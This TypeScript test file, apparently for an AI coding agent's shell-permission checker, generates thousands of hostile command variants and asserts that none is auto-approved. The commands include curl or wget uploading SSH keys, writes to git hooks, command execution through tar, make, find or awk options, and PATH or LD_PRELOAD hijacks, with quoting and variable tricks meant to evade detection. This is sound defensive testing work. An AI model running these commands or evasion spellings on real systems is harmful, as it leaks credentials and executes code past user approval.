// Lines made from grammars of options: what runs, writes, reads elsewhere or sends never passes unasked, however it is spelled.
import assert from 'node:assert/strict';
import { type PermissionMode } from '../../../../src/shared/permission';
import { readCommands } from '../../../../src/core/permissions/command-lines';
import { judge } from '../../../../src/core/permissions/decide';
import { type PermissionContext } from '../../../../src/core/permissions/rules/verdict';
import { bash, context } from './permission-table';

/** What one program takes, written from its manual. None of the implementation's tables is read here. */
interface Grammar {
  /** The program with its subcommand. */
  call: string;
  /** What stands with every dangerous option, so that the line does its harm. */
  rest?: string;
  /** All long options between which a shortened one must decide; none where the program takes whole names only. */
  long?: string;
  /** Dangerous options, each with a value that harms. */
  dangers: Danger[];
  /** Rules under which nothing of this may pass. */
  rules: string[];
}

interface Danger {
  option: string;
  value?: string;
  /** How a value follows; both by default, for letters also directly. */
  joins?: string[];
}

const evil = "'sh -c id'";
const hook = '.git/hooks/pre-commit';
const away = '/home/u/.ssh/id_rsa';
const tarLong = `catenate concatenate create delete diff compare append test-label list update extract get check-device
  listed-incremental incremental add-file directory exclude exclude-from files-from file force-local info-script
  new-volume-script rmt-command rsh-command volno-file use-compress-program to-command checkpoint checkpoint-action index-file
  check-links ignore-case interactive unlink-first uncompress ungzip utc usage verbose verify totals touch to-stdout transform`;
const curlLong = `alt-svc anyauth append basic cacert capath cert cert-type ciphers compressed config connect-timeout connect-to
  continue-at cookie cookie-jar create-dirs crlf crlfile data data-ascii data-binary data-raw data-urlencode digest dump-header
  etag-compare etag-save fail form form-string get head header help hsts include insecure interface json key key-type libcurl
  limit-rate list-only location max-time netrc netrc-file netrc-optional noproxy output output-dir parallel pass proxy quote range
  rate raw referer remote-name remote-time request resolve retry show-error silent stderr trace trace-ascii trace-time upload-file
  url url-query use-ascii user user-agent verbose version write-out`;
const wgetLong = `accept append-output background base body-data body-file ca-certificate config continue debug directory-prefix
  execute header help input-file level load-cookies method mirror output-document output-file page-requisites password post-data
  post-file progress quiet quota recursive referer reject rejected-log save-cookies save-headers spider start-pos timeout tries
  use-askpass user user-agent verbose version wait warc-file warc-dedup warc-tempdir`;

const grammars: Grammar[] = [
  {
    call: 'tar -xf a.tar',
    long: tarLong,
    dangers: [
      { option: '--to-command', value: evil },
      { option: '--use-compress-program', value: evil },
      { option: '--info-script', value: evil },
      { option: '--new-volume-script', value: evil },
      { option: '--rsh-command', value: evil },
      { option: '--rmt-command', value: evil },
      { option: '--checkpoint-action', value: "exec='sh -c id'" },
      { option: '-I', value: "'echo x; id'" },
      { option: '-F', value: evil },
      { option: '--directory', value: '.git/hooks' },
      { option: '--index-file', value: hook },
      { option: '--listed-incremental', value: hook },
    ],
    rules: ['Bash(tar:*)', 'Bash(tar -tf:*)', 'Bash(tar -xf:*)'],
  },
  {
    call: 'tar -xf a.tar',
    long: tarLong,
    dangers: [
      { option: '--absolute-names' },
      { option: '-P' },
      { option: '--transform', value: "'s,^,/tmp/,'" },
      { option: '--xform', value: 's,^,../,' },
      { option: '--file', value: 'host:a.tar' },
      { option: hook },
    ],
    rules: ['Bash(tar:*)', 'Bash(tar -xf:*)'],
  },
  {
    call: 'tar -cf a.tar',
    rest: 'src',
    long: tarLong,
    dangers: [
      { option: '--files-from', value: away },
      { option: '-T', value: away },
      { option: '--files-from', value: 'list' },
      { option: '--add-file', value: away },
      { option: '-C', value: '/home/u' },
      { option: '--file', value: hook },
      { option: '--file', value: 'host:a.tar' },
      { option: '--file', value: 'user@host:/a.tar' },
      { option: '-f', value: 'host:a.tar' },
      { option: `@${away}` },
    ],
    rules: ['Bash(tar:*)', 'Bash(tar -cf:*)'],
  },
  {
    call: 'tar -tf a.tar',
    long: tarLong,
    dangers: [
      { option: '--to-command', value: evil },
      { option: '--use-compress-program', value: "'xz; id'" },
      { option: '--checkpoint-action', value: 'exec=id' },
      { option: '--index-file', value: hook },
      { option: '--file', value: 'host:a.tar' },
    ],
    rules: ['Bash(tar:*)', 'Bash(tar -tf:*)'],
  },
  {
    call: 'curl -s',
    rest: 'https://x.org/',
    long: curlLong,
    dangers: [
      { option: '--output', value: hook },
      { option: '--output-dir', value: '.git/hooks' },
      { option: '--dump-header', value: '.npmrc' },
      { option: '--cookie-jar', value: '.npmrc' },
      { option: '--trace-ascii', value: '.npmrc' },
      { option: '--stderr', value: '.npmrc' },
      { option: '--libcurl', value: '.npmrc' },
      { option: '--etag-save', value: '.npmrc' },
      { option: '--upload-file', value: away },
      { option: '--upload-file', value: "'{src/a,/home/u/.ssh/id_rsa}'" },
      { option: '--config', value: away },
      { option: '--data', value: `@${away}` },
      { option: '--data-binary', value: `@${away}` },
      { option: '--data-urlencode', value: `a@${away}` },
      { option: '--json', value: `@${away}` },
      { option: '--form', value: `f=@${away}` },
      { option: '--form', value: `'f=@src/a;headers=@${away}'` },
      { option: '--form', value: `'f=@"${away}"'` },
      { option: '--form', value: `'f=@src/a,${away}'` },
      { option: '--form', value: `'f=<${away}'` },
      { option: '--header', value: `@${away}` },
      { option: '--url', value: `file://${away}` },
      { option: '--url', value: `'file:///{etc/passwd,ws/a}'` },
      { option: '--url', value: `'{file,https}:///etc/passwd'` },
      { option: '--netrc-file', value: away },
      { option: '--cacert', value: away },
      { option: '-o', value: hook },
      { option: '-T', value: away },
      { option: '-K', value: away },
      { option: '-d', value: `@${away}` },
      { option: '-F', value: `f=@${away}` },
      { option: '-D', value: '.npmrc' },
      { option: '-sJO' },
    ],
    rules: ['Bash(curl:*)', 'Bash(curl -s:*)'],
  },
  {
    call: 'wget -q',
    rest: 'https://x.org/a',
    long: wgetLong,
    dangers: [
      { option: '--output-document', value: hook },
      { option: '--output-file', value: hook },
      { option: '--append-output', value: '.npmrc' },
      { option: '--directory-prefix', value: '.git/hooks' },
      { option: '--post-file', value: away },
      { option: '--body-file', value: away },
      { option: '--input-file', value: away },
      { option: '--save-cookies', value: '.npmrc' },
      { option: '--rejected-log', value: '.npmrc' },
      { option: '--use-askpass', value: evil },
      { option: '--execute', value: "'use_askpass=./x'" },
      { option: '--config', value: 'wgetrc' },
      { option: '-O', value: hook },
      { option: '-P', value: '.git/hooks' },
      { option: '-i', value: away },
      { option: '-e', value: "'use_askpass=./x'" },
    ],
    rules: ['Bash(wget:*)', 'Bash(wget -q:*)'],
  },
  {
    call: 'make',
    rest: 'test',
    long: `always-make directory debug environment-overrides eval file help ignore-errors include-dir jobs keep-going
      load-average makefile dry-run assume-old old-file output-sync print-data-base question no-builtin-rules silent quiet touch
      trace version print-directory what-if new-file assume-new warn-undefined-variables`,
    dangers: [
      { option: '--eval', value: "'$(shell id)'" },
      { option: '-E', value: "'$(shell id)'" },
      { option: '--file', value: '-' },
      { option: '--makefile', value: '/dev/stdin' },
      { option: '-f', value: '-' },
      { option: '--directory', value: '/home/u/x' },
      { option: '-C', value: '/home/u/x' },
      { option: '--include-dir', value: '/home/u/x' },
      { option: 'SHELL', value: './x', joins: ['='] },
      { option: '.SHELLFLAGS', value: '-x', joins: ['='] },
      { option: 'MAKEFLAGS', value: "'--eval=x'", joins: ['='] },
      { option: 'MAKE', value: './x', joins: ['='] },
      { option: 'SHELL', value: './x', joins: ['+=', ':=', '::=', '?='] },
      { option: "'SHELL =./x'" },
      { option: "'SHELL = ./x'" },
      { option: "' MAKEFLAGS = --eval=x'" },
      { option: "'X!=./x'" },
      { option: "'S$(X)HELL=./x'" },
      { option: "'$(shell id)=1'" },
      { option: 'ARGS', value: "'; id'", joins: ['='] },
      { option: 'X', value: "'$(shell id)'", joins: ['='] },
      { option: 'CC', value: evil, joins: ['='] },
    ],
    rules: ['Bash(make:*)', 'Bash(make test:*)', 'Bash(make -s:*)'],
  },
  {
    call: 'npm run build',
    long: `call script-shell prefix userconfig globalconfig node-options silent workspace workspaces if-present ignore-scripts
      production json long loglevel global save registry noproxy`,
    dangers: [
      { option: '--script-shell', value: './x' },
      { option: '--node-options', value: '--require=./x' },
      { option: '--userconfig', value: './x' },
      { option: '--globalconfig', value: './x' },
      { option: '--prefix', value: '/home/u/x' },
      { option: '-C', value: '/home/u/x', joins: [' '] },
    ],
    rules: ['Bash(npm:*)', 'Bash(npm run:*)', 'Bash(npm run build:*)'],
  },
  {
    call: 'npm exec',
    long: 'call script-shell package yes workspace workspaces include-workspace-root',
    dangers: [
      { option: '--call', value: "'id'" },
      { option: '-c', value: "'id'", joins: [' ', '='] },
    ],
    rules: ['Bash(npm:*)', 'Bash(npm exec:*)'],
  },
  {
    call: 'find .',
    dangers: [
      { option: '-exec', value: 'rm {} +', joins: [' '] },
      { option: '-execdir', value: 'id \\;', joins: [' '] },
      { option: '-ok', value: 'id \\;', joins: [' '] },
      { option: '-okdir', value: 'id \\;', joins: [' '] },
      { option: '-delete' },
      { option: '-fprint', value: hook, joins: [' '] },
      { option: '-fprint0', value: hook, joins: [' '] },
      { option: '-fprintf', value: `${hook} x`, joins: [' '] },
      { option: '-fls', value: hook, joins: [' '] },
      { option: '-files0-from', value: away, joins: [' '] },
      { option: '-{delete,print}' },
      { option: '-$(echo delete)' },
      { option: '-`echo delete`' },
      { option: '${X:--delete}' },
      { option: '-name $(echo x -delete)' },
      { option: '-newer', value: away, joins: [' '] },
    ],
    rules: ['Bash(find:*)'],
  },
  {
    // Links in the folder would show what they lead to.
    call: 'find src',
    dangers: [
      { option: '-exec cat {} +' },
      { option: '-exec cat {} + -type f' },
      { option: '-name x -exec grep y {} \\;' },
      { option: '! -type f -exec cat {} +' },
      { option: '-type f -o -exec cat {} +' },
      { option: '-type l -exec head {} +' },
      { option: '-follow -type f -exec cat {} +' },
      { option: "-type f -exec sh -c 'cat {}' \\;" },
      { option: '-type f -exec sort -o {} {} \\;' },
      { option: '-type f -exec cat {} /etc/passwd +' },
      { option: '-type f -exec cat {} ../x \\;' },
      { option: '-type f -exec xargs {} +' },
      { option: '-type f -exec awk -f {} +' },
    ],
    rules: ['Bash(find:*)'],
  },
  {
    call: 'sort a',
    long: `ignore-leading-blanks dictionary-order ignore-case general-numeric-sort ignore-nonprinting month-sort
      human-numeric-sort numeric-sort random-sort random-source reverse sort version-sort batch-size check compress-program debug
      files0-from key merge output stable buffer-size field-separator temporary-directory parallel unique zero-terminated help
      version`,
    dangers: [
      { option: '--output', value: hook },
      { option: '--compress-program', value: evil },
      { option: '--files0-from', value: 'list' },
      { option: '--random-source', value: away },
      { option: '-o', value: hook },
    ],
    rules: ['Bash(sort:*)', 'Bash(sort a:*)'],
  },
  {
    call: 'rg x',
    dangers: [
      { option: '--pre', value: './x' },
      { option: '--hostname-bin', value: './x' },
      { option: '--file', value: away },
      { option: '-f', value: away },
      { option: '--ignore-file', value: away },
    ],
    rules: ['Bash(rg:*)', 'Bash(rg x:*)'],
  },
  {
    call: 'fd x',
    dangers: [
      { option: '-x', value: 'rm', joins: [' ', ''] },
      { option: '-X', value: 'rm', joins: [' ', ''] },
      { option: '-HX', value: 'rm', joins: [' '] },
      { option: '--exec', value: 'rm' },
      { option: '--exec-batch', value: 'rm' },
      { option: '--search-path', value: '/home/u' },
      { option: '--base-directory', value: '/home/u' },
    ],
    rules: ['Bash(fd:*)'],
  },
  {
    call: 'git log -1',
    dangers: [
      { option: '--output', value: hook },
      { option: '--ext-diff' },
      { option: '--textconv' },
      { option: '--show-signature' },
    ].map((one) => ({ ...one, joins: ['='] })),
    rules: [],
  },
  {
    call: 'git diff HEAD',
    long: `patch unified raw numstat shortstat dirstat check summary name-only name-status stat binary color abbrev output
      output-indicator-new output-indicator-old output-indicator-context ext-diff textconv exit-code no-index relative text quiet
      word-diff submodule minimal patience histogram anchored`,
    dangers: [{ option: '--output', value: hook }, { option: '--ext-diff' }, { option: '--textconv' }].map((one) => ({
      ...one,
      joins: ['='],
    })),
    rules: [],
  },
  {
    call: 'git grep x',
    long: `cached no-index untracked exclude-standard recurse-submodules invert-match ignore-case word-regexp text textconv
      recursive max-depth extended-regexp basic-regexp fixed-strings perl-regexp line-number column full-name name-only
      files-with-matches files-without-match null only-matching count color break heading context before-context after-context
      threads show-function function-context and or not quiet all-match open-files-in-pager ext-grep max-count`,
    dangers: [
      { option: '--open-files-in-pager', value: evil, joins: ['='] },
      { option: '-O', value: evil, joins: [''] },
      { option: '--textconv' },
    ],
    rules: [],
  },
  {
    call: 'git grep x',
    long: 'open-files-in-pager only-matching or',
    dangers: [
      { option: '--open-files-in-pager', value: evil, joins: ['='] },
      { option: '-O', value: evil, joins: [''] },
    ],
    rules: ['Bash(git:*)', 'Bash(git grep:*)'],
  },
  {
    call: 'git fetch origin',
    long: `all append atomic upload-pack update-head-ok update-shallow unshallow force multiple tags jobs prefetch prune quiet
      recurse-submodules dry-run depth keep verbose`,
    dangers: [{ option: '--upload-pack', value: evil }],
    rules: ['Bash(git:*)', 'Bash(git fetch:*)'],
  },
  {
    call: 'git push origin main',
    long: `all mirror delete tags dry-run porcelain force force-with-lease force-if-includes recurse-submodules thin receive-pack
      exec repo set-upstream progress prune no-verify follow-tags signed atomic push-option verbose quiet`,
    dangers: [
      { option: '--receive-pack', value: evil },
      { option: '--exec', value: evil },
    ],
    rules: ['Bash(git:*)', 'Bash(git push:*)'],
  },
  {
    call: 'git rebase main',
    long: 'exec edit-todo empty onto keep-base quit abort skip continue show-current-patch merge interactive autosquash',
    dangers: [
      { option: '--exec', value: evil },
      { option: '-x', value: evil },
    ],
    rules: ['Bash(git:*)', 'Bash(git rebase:*)'],
  },
  {
    call: 'git clone https://x.org/a',
    long: `verbose quiet progress reject-shallow no-checkout bare mirror local no-hardlinks shared recurse-submodules jobs template
      reference dissociate origin branch upload-pack depth single-branch separate-git-dir config server-option filter sparse`,
    dangers: [
      { option: '--upload-pack', value: evil },
      { option: '--template', value: './t' },
      { option: '--config', value: 'core.fsmonitor=./x' },
      { option: '-u', value: evil },
      { option: '-c', value: 'core.fsmonitor=./x' },
    ],
    rules: ['Bash(git:*)', 'Bash(git clone:*)'],
  },
  {
    call: 'rsync -a src/ dst/',
    dangers: [
      { option: '-e', value: evil },
      { option: '--rsh', value: evil },
      { option: '--rsync-path', value: evil },
      { option: '--files-from', value: 'list' },
      { option: '--log-file', value: hook },
    ],
    rules: ['Bash(rsync:*)', 'Bash(rsync -a:*)'],
  },
  {
    call: 'zip a.zip src',
    dangers: [
      { option: '-TT', value: evil, joins: [' '] },
      { option: '-qTT', value: evil, joins: [' '] },
      { option: '--unzip-command', value: evil },
    ],
    rules: ['Bash(zip:*)'],
  },
  {
    call: 'zip',
    dangers: [{ option: hook }],
    rest: 'a',
    rules: ['Bash(zip:*)'],
  },
  {
    call: 'patch',
    dangers: [{ option: hook }, { option: '-o', value: hook }, { option: '--output', value: hook }],
    rules: ['Bash(patch:*)'],
  },
  {
    call: 'ssh',
    rest: 'host uptime',
    dangers: [
      ...[
        'ProxyCommand=./x',
        "'ProxyCommand ./x'",
        'proxycommand=./x',
        'LocalCommand=./x',
        'KnownHostsCommand=./x',
      ].map((value) => ({ option: '-o', value })),
      { option: '-vo', value: 'ProxyCommand=./x' },
      { option: '-F', value: 'config' },
      { option: '-I', value: './x.so' },
      { option: '-E', value: hook, joins: [' '] },
    ],
    rules: ['Bash(ssh:*)'],
  },
  {
    call: 'ssh host',
    dangers: [
      { option: '-o', value: 'ProxyCommand=./x' },
      { option: '-F', value: 'config' },
    ],
    rules: ['Bash(ssh:*)', 'Bash(ssh host:*)'],
  },
  {
    call: 'scp host:a',
    dangers: [{ option: hook }, { option: '.npmrc' }],
    rules: ['Bash(scp:*)', 'Bash(scp host:a:*)'],
  },
  {
    call: 'man ls',
    dangers: [
      { option: '-P', value: './x' },
      { option: '--pager', value: './x' },
      { option: '-H', value: './x', joins: [''] },
      { option: '--html', value: './x', joins: ['='] },
      { option: '-C', value: './x' },
    ],
    rules: ['Bash(man:*)'],
  },
  {
    call: 'split a',
    dangers: [{ option: '--filter', value: evil }],
    rules: ['Bash(split:*)'],
  },
  {
    call: 'kubectl get pods',
    dangers: [{ option: '--kubeconfig', value: './x' }],
    rules: ['Bash(kubectl:*)', 'Bash(kubectl get:*)'],
  },
  {
    call: 'kubectl cp pod:a',
    dangers: [{ option: hook }],
    rules: ['Bash(kubectl:*)', 'Bash(kubectl cp:*)'],
  },
  {
    call: 'tcpdump',
    dangers: [{ option: '-z', value: './x' }],
    rules: ['Bash(tcpdump:*)'],
  },
  {
    call: 'git mv a',
    dangers: [{ option: hook }, { option: '.npmrc' }],
    rules: ['Bash(git:*)', 'Bash(git mv:*)'],
  },
  {
    call: 'git fast-export HEAD',
    dangers: [{ option: '--export-marks', value: hook, joins: ['='] }],
    rules: ['Bash(git:*)', 'Bash(git fast-export:*)'],
  },
  {
    call: 'git send-email a',
    dangers: [
      { option: '--smtp-server', value: '/ws/x' },
      { option: '--smtp-server', value: './x' },
      { option: '--sendmail-cmd', value: './x' },
    ],
    rules: ['Bash(git:*)', 'Bash(git send-email:*)'],
  },
  {
    call: 'git instaweb',
    dangers: [
      { option: '--httpd', value: './x' },
      { option: '-d', value: './x' },
    ],
    rules: ['Bash(git:*)', 'Bash(git instaweb:*)'],
  },
  {
    call: 'git archive HEAD',
    dangers: [{ option: '--remote', value: 'ext::./x', joins: ['='] }],
    rules: ['Bash(git:*)', 'Bash(git archive:*)'],
  },
  {
    call: 'git remote-ext a',
    dangers: [{ option: './x' }],
    rules: ['Bash(git:*)'],
  },
  {
    call: 'git credential',
    dangers: [{ option: 'fill' }],
    rules: ['Bash(git:*)'],
  },
  {
    call: 'git checkout HEAD~1',
    dangers: [{ option: 'a' }, { option: 'src/a.ts' }, { option: "':/'" }, { option: "'*'" }],
    rules: ['Bash(git:*)'],
  },
  {
    call: 'git switch main',
    long: 'create force-create guess detach discard-changes conflict quiet merge',
    dangers: [{ option: '--discard-changes' }, { option: '--force-create', value: 'x' }, { option: '-C', value: 'x' }],
    rules: ['Bash(git:*)'],
  },
  {
    call: 'git read-tree HEAD',
    dangers: [{ option: '--reset' }, { option: '-um' }],
    rules: ['Bash(git:*)'],
  },
  {
    call: 'npm config',
    dangers: [{ option: 'set', value: 'script-shell ./x', joins: [' '] }, { option: 'edit' }],
    rules: ['Bash(npm:*)'],
  },
  {
    call: 'npm set',
    dangers: [{ option: 'script-shell', value: './x', joins: ['=', ' '] }],
    rules: ['Bash(npm:*)'],
  },
  {
    call: 'grep',
    dangers: [{ option: '-', value: away, joins: [' '] }],
    rules: ['Bash(grep:*)'],
  },
  {
    call: 'rg',
    dangers: [{ option: '-', value: away, joins: [' '] }],
    rules: ['Bash(rg:*)'],
  },
  {
    call: 'uniq -',
    dangers: [{ option: hook }],
    rules: ['Bash(uniq:*)'],
  },
  {
    call: 'scp a b:',
    dangers: [
      { option: '-S', value: './x' },
      { option: '-o', value: "'ProxyCommand=./x'" },
    ],
    rules: ['Bash(scp:*)'],
  },
  {
    call: 'go test ./...',
    dangers: [
      { option: '-exec', value: './x' },
      { option: '--exec', value: './x' },
      { option: '-toolexec', value: './x' },
      { option: '-o', value: hook },
      { option: '-ldflags', value: "'-linkmode=external -extld=./x'" },
    ],
    rules: ['Bash(go:*)', 'Bash(go test:*)'],
  },
  {
    call: 'cargo build',
    dangers: [
      { option: '--config', value: '\'build.rustc-wrapper="./x"\'' },
      { option: '--manifest-path', value: '/home/u/x/Cargo.toml' },
    ],
    rules: ['Bash(cargo:*)', 'Bash(cargo build:*)'],
  },
  {
    call: 'gcc a.c',
    dangers: [
      { option: '-wrapper', value: 'sh,-c,id', joins: [' '] },
      { option: '-fplugin', value: './x.so', joins: ['='] },
      { option: '-o', value: hook },
    ],
    rules: ['Bash(gcc:*)'],
  },
  {
    call: 'openssl rand 8',
    dangers: [{ option: '-out', value: hook, joins: [' '] }],
    rules: ['Bash(openssl:*)', 'Bash(openssl rand:*)'],
  },
  {
    call: 'strings a.out',
    dangers: [{ option: `@${away}` }, { option: '@list' }],
    rules: ['Bash(strings:*)'],
  },
  {
    call: 'wc -l',
    long: 'bytes chars lines files0-from max-line-length words total help version',
    dangers: [{ option: '--files0-from', value: 'list' }],
    rules: ['Bash(wc:*)', 'Bash(wc -l:*)'],
  },
  {
    call: 'awk',
    dangers: [
      { option: `'{system("id")}'` },
      { option: `'{print | "sh"}'` },
      { option: `'{print > ".npmrc"}'` },
      { option: `'{print >> "x"}'` },
      ...[',', ' &&', ' ||', ', # x'].flatMap((end) =>
        ['print 1', 'print(1)', 'printf "%s"'].map((start) => ({ option: `'{${start}${end}\n2 > ".npmrc"}'` })),
      ),
      { option: `'{print 1,\\\n2 > "x"}'` },
      { option: `'{print 1,\n\n2 > "x"}'` },
      { option: `'{printf "x" > "y"}'` },
      { option: `'BEGIN{while (("id" | getline x) > 0) print x}'` },
      { option: `'BEGIN{getline x < "/etc/passwd"; print x}'` },
      { option: `'BEGIN{ARGV[1]="/etc/passwd"; ARGC=2} {print}'` },
      { option: `'if (1) /"/ ; print | "id" ; x = "/"'` },
      { option: `'{x++ /"/ ; print | "id" ; y = "/"}'` },
      { option: `'BEGIN{f="system"; @f("id")}'` },
      { option: `'@load "filefuncs"; {print}'` },
      { option: '-f', value: 'prog', joins: [' ', ''] },
      { option: '--file', value: 'prog' },
      { option: '-i', value: 'inplace', joins: [' '] },
      { option: '"$X"' },
    ],
    rest: 'a',
    rules: [],
  },
  {
    call: 'jq . a',
    dangers: [
      { option: '-L', value: '/home/u' },
      { option: '-f', value: 'prog' },
      { option: '--from-file', value: 'prog' },
      { option: '--rawfile', value: `x ${away}`, joins: [' '] },
      { option: '--slurpfile', value: `x ${away}`, joins: [' '] },
    ],
    rules: [],
  },
  {
    call: 'tree',
    dangers: [
      { option: '-o', value: hook },
      { option: '-R' },
      { option: '--fromfile' },
      { option: '--gitfile', value: away },
    ],
    rules: [],
  },
  {
    call: 'diff a b',
    long: `normal brief context unified ed rcs side-by-side width paginate label expand-tabs recursive no-dereference new-file
      from-file to-file exclude-from exclude ignore-case`,
    dangers: [
      { option: '--paginate' },
      { option: '-l' },
      { option: '--from-file', value: away },
      { option: '--to-file', value: away },
      { option: '--exclude-from', value: away },
    ],
    rules: [],
  },
  {
    call: 'export',
    dangers: [
      { option: 'PATH', value: './bin:$PATH', joins: ['='] },
      { option: 'LD_PRELOAD', value: './x.so', joins: ['='] },
      { option: 'NODE_OPTIONS', value: '--require=./x', joins: ['='] },
      { option: 'GIT_SSH_COMMAND', value: './x', joins: ['='] },
      { option: 'BASH_ENV', value: './x', joins: ['='] },
    ],
    rules: ['Bash(export:*)'],
  },
];

/** The shortest beginning that no other long option shares, and every longer one. */
function spellings(option: string, long: string | undefined): string[] {
  if (long === undefined || !option.startsWith('--')) return [option];
  const others = long.split(/\s+/).filter((name) => name !== option.slice(2));
  const found: string[] = [];
  for (let length = 1; length <= option.length - 2; length++) {
    const name = option.slice(2, length + 2);
    if (name.length === option.length - 2 || !others.some((other) => other.startsWith(name))) found.push(`--${name}`);
  }
  return found;
}

/** The word as the shell may be given it. */
const quotings: ((word: string) => string)[] = [
  (word) => word,
  (word) => (/['"$`{\\]/.test(word) ? word : `'${word}'`),
  (word) => (/["$`\\{]/.test(word) ? word : `"${word}"`),
  (word) => (/^-[\w-]+$/.test(word) ? `-"${word.slice(1)}"` : word),
  (word) => (/^-[\w-]+$/.test(word) ? `\\${word}` : word),
  (word) => (/^-[\w-]+$/.test(word) ? `$'${word}'` : word),
];

const wrappers: ((line: string) => string)[] = [
  (line) => line,
  (line) => `env ${line}`,
  (line) => `env A=1 ${line}`,
  (line) => `nice -n 5 ${line}`,
  (line) => `timeout 5 ${line}`,
  (line) => `time ${line}`,
  (line) => `command ${line}`,
  (line) => `stdbuf -oL ${line}`,
  (line) => `find . -type f | xargs ${line}`,
  (line) => `find . -type f -exec ${line} {} +`,
  (line) => `ls; ${line}`,
  (line) => `(${line})`,
  (line) => `if true; then ${line}; fi`,
  (line) => `for f in a b; do ${line}; done`,
  (line) => `${line} | head -5`,
  (line) => `echo "$(${line})"`,
  (line) => `sh -c "${line.replace(/["\\$`]/g, '\\$&')}"`,
];

interface Attack {
  line: string;
  rules: string[];
}

/** Each spelling once in some quotes, the whole name in all of them; the plain line also behind every wrapper. */
function attacksOf({ call, rest = '', long, dangers, rules }: Grammar): Attack[] {
  const lines = new Set<string>();
  let turn = 0;
  const next = <T>(all: readonly T[]): T[] => all.slice(turn % all.length, (turn++ % all.length) + 1);
  for (const danger of dangers) {
    const { option, value } = danger;
    const joins = joinsOf(danger);
    for (const spelled of spellings(option, long)) {
      for (const join of joins) {
        for (const quote of spelled === option ? quotings : next(quotings)) {
          const word = `${quote(spelled)}${join}${value ?? ''}`;
          const line = `${call} ${word} ${rest}`.trim();
          const isPlain = spelled === option && quote === quotings[0];
          for (const wrap of isPlain && join === joins[0] ? wrappers : next(wrappers)) lines.add(wrap(line));
          if (isPlain) for (const chosen of chosenByLine(word, call, rest, next)) lines.add(chosen);
          if (isPlain && option.startsWith('-') && !subcommanded.test(call))
            lines.add(`${call.replace(' ', ` ${word} `)} ${rest}`.trim());
        }
      }
    }
  }
  return [...lines].map((line) => ({ line, rules }));
}

/** The line itself chooses the word, or a variable of the line carries it. */
function chosenByLine(word: string, call: string, rest: string, next: <T>(all: readonly T[]) => T[]): string[] {
  if (/[\s'"{$`]/.test(word)) return [];
  const spelled = (): string[] => next(['$o', '"$o"', '${o}']);
  const looped = /^-|[=@]/.test(word)
    ? spelled().flatMap((chosen) =>
        [word, `$(echo ${word})`, `"${word}"`].map((list) => `for o in ${list}; do ${call} ${chosen} ${rest}; done`),
      )
    : [];
  const carried = spelled().flatMap((chosen) =>
    [`o=${word};`, `o="${word}" &&`, `O=1; o=${word};`, `true; o=x; o=${word};`].map((set) =>
      `${set} ${call} ${chosen} ${rest}`.trim(),
    ),
  );
  return [...looped, ...carried];
}

/** Their second word must be what it is. */
const subcommanded = /^(git|find|npm|go|cargo|openssl|kubectl) |^\w+$/;

function joinsOf({ option, value, joins }: Danger): string[] {
  if (value === undefined) return [''];
  if (joins !== undefined) return joins;
  if (option.startsWith('--')) return ['=', ' '];
  return /^-\w$/.test(option) ? [' ', ''] : [' ', '='];
}

/** What a shell or a program takes from a variable of this name, in front of commands that only read. */
const setAndRead = (
  'PATH path LD_PRELOAD IFS BASH_ENV ENV CDPATH cdpath fpath FPATH module_path SHELLOPTS PS4 PROMPT_COMMAND HOME PWD TMPDIR GIT_DIR ' +
  'GIT_SSH_COMMAND GIT_EXTERNAL_DIFF GIT_PAGER PAGER LESSOPEN LESS RIPGREP_CONFIG_PATH GREP_OPTIONS http_proxy https_proxy ' +
  'npm_config_script_shell NODE_OPTIONS PYTHONPATH PYTHONSTARTUP PERL5OPT RUBYOPT JQ_COLORS AWKPATH commands functions aliases ' +
  'galiases options dirstack nameddirs argv manpath TAR_OPTIONS EDITOR BROWSER DYLD_INSERT_LIBRARIES'
)
  .split(' ')
  .flatMap((name) =>
    ['ls', 'cat a', 'git status', 'rg x', 'grep x a'].flatMap((reads) => [
      `${name}=./x; ${reads}`,
      `${name}=./x && ${reads}`,
      `for ${name} in ./x; do ${reads}; done`,
      `f=a; ${name}=./x; ${reads}`,
    ]),
  );

/** In quotes, a value with a blank is one name, and that of a file inside. */
function readsOf(path: string): string[] {
  const all = ['cat $f', 'cat "$f"', 'wc -l ${f}', 'grep x "$f"', 'cat < "$f"', 'head -1 $f', 'ls "$f"'];
  return path.startsWith('"') ? all.filter((reads) => !reads.includes('"')) : all;
}

/** Variables whose value is not what the line seems to say, and files outside by way of one. */
const carried = ['/etc/passwd', '../x', '"a /etc/passwd"', '/home/u/.ssh/id_rsa'].flatMap((path) =>
  readsOf(path).flatMap((reads) => [
    `f=${path}; ${reads}`,
    `f=a; f=${path}; ${reads}`,
    `f=a; ${reads}; f=${path}`,
    `f=a; for f in ${path}; do ${reads}; done`,
    `f=a; if true; then f=${path}; fi; ${reads}`,
    `g=${path}; f=$g; ${reads}`,
    `false && f=a; ${reads}`,
    `if false; then f=a; fi; ${reads}`,
    `(f=a); ${reads}`,
    `f=a | true; ${reads}`,
    `f=a & ${reads}`,
    `${reads}; f=a`,
    `f=a; f+=${path}; ${reads}`,
    `f=a; read f; ${reads}`,
    `f=a; unset f; ${reads}`,
    `f=$(echo ${path}); ${reads}`,
    `f=a; export f=${path}; ${reads}`,
    `f=a; printf -v f x; ${reads}`,
  ]),
);

describe('attack lines from grammars of options', () => {
  const attacks = [
    ...grammars.flatMap(attacksOf),
    ...[...new Set([...setAndRead, ...carried])].map((line): Attack => ({ line, rules: [] })),
  ];
  const contexts = new Map<string, PermissionContext>();
  const contextOf = (mode: PermissionMode, rules: readonly string[]): PermissionContext => {
    const key = `${mode} ${rules.join()}`;
    const found =
      contexts.get(key) ??
      context(
        mode,
        rules.map((one) => `allow ${one}`),
      );
    contexts.set(key, found);
    return found;
  };
  const read = attacks.map((attack) => ({ ...attack, lines: readCommands(bash(attack.line)) }));
  const unasked = (mode: PermissionMode, rulesOf: (attack: Attack) => string[][]): string[] =>
    read.flatMap(({ lines, ...attack }) =>
      rulesOf(attack).flatMap((rules) => {
        const { behavior } = judge(bash(attack.line), contextOf(mode, rules), lines);
        return behavior === 'allow' ? [`${rules.join(', ')} ${attack.line}`.trim()] : [];
      }),
    );

  it('are many', () => {
    console.log(`    ${attacks.length} lines`);
    assert.ok(attacks.length >= 2000, String(attacks.length));
  });

  it('ask without any rule', () =>
    assert.deepEqual(
      unasked('default', () => [[]]),
      [],
    ));

  it('ask under rules for the program', () =>
    assert.deepEqual(
      unasked('default', ({ rules }) => rules.map((one) => [one])),
      [],
    ));

  it('never pass in plan mode', () =>
    assert.deepEqual(
      unasked('plan', () => [[]]),
      [],
    ));

  it('are not applied as edits', () =>
    assert.deepEqual(
      unasked('acceptEdits', () => [[]]),
      [],
    ));
});
